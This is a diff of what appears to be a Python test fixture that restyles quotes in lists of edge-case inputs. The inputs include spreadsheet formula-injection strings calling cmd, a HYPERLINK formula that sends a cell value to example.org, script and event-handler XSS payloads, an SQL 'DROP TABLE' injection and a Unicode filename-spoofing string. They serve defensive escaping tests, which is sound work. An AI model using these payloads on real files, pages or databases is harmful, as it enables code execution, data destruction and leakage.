@@ -8,7 +8,7 @@ import amongst as am
 
 CELLS = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://example.org/?x="&A1,"click")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-1+cmd|' /C calc'!A0",
@@ -26,7 +26,7 @@ CELLS = [
     "\u202egnp.exe\u202c",
     "a\u200bb\u2066c\u2069",
     "line one\nline two\r\nline three",
-    "comma, semicolon; pipe| tab\t quote\"",
+    'comma, semicolon; pipe| tab\t quote"',
     "",
     " ",
     "NULL",
@@ -49,7 +49,7 @@ NAMES = [
     "=1+1",
     "<script>document.title='ran'</script>",
     "<b onmouseover=alert(1)>x</b>",
-    "a\"; DROP TABLE t; --",
+    'a"; DROP TABLE t; --',
     "it's",
     "{{ 7*7 }}",
     "\u202eeman",
